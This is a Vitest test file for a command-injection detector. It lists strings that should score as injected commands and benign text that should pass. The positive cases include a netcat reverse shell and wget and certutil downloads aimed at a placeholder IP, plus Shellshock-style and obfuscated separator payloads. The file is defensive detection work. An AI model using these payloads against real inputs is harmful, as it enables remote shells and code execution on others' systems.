import { describe, expect, it } from "vitest";
import { commandSign } from "./command.ts";

const sure = (text: string): boolean => (commandSign(text)?.confidence ?? 0) >= 0.7;

describe("the commands of a value", () => {
  it.each([
    "photo.png; uname -r",
    "10.9.8.7 && netstat -an",
    "report\nwget http://203.0.113.9/a",
    "a.csv|tee /tmp/b",
    "x$(hostname -I)",
    "'; tac /etc/issue; '",
    "b; u'na'me",
    "main;${IFS}printenv",
    "c & certutil -urlcache -f http://203.0.113.9/a a",
    "d;/b?n/c?t /etc/issue",
    "-oProxyCommand=touch",
    "() { _; }; /bin/date",
    "who\\ami",
    "nc 203.0.113.9 99 -e /bin/sh",
  ])("finds that %j goes on as a command", (text) => {
    expect(sure(text)).toBe(true);
  });

  it.each([
    "salt & pepper; sugar | spice",
    "find . -name '*.md' | xargs grep -l draft",
    "for f in *.c; do gcc -c $f; done",
    "TOTAL=$(ls | wc -l)",
    "Run `npm test`, then `git push`.",
    'type Mode = "base64" | "hex";\ntype Size = number;',
    "| id | name |\n| -- | ---- |",
    "search the file system (case insensitive)",
    "https://x.example/?a=1&ls=2",
    "Dear Ann,\nfind the plan attached",
  ])("lets %j pass", (text) => {
    expect(sure(text)).toBe(false);
  });

  it("calls a whole line of a shell what it is", () => {
    expect(commandSign("ls -l /tmp; cat /etc/hosts")?.form).toBe("whole");
    expect(commandSign("plan.txt; cat /etc/hosts")?.form).toBe("breakout");
  });
});
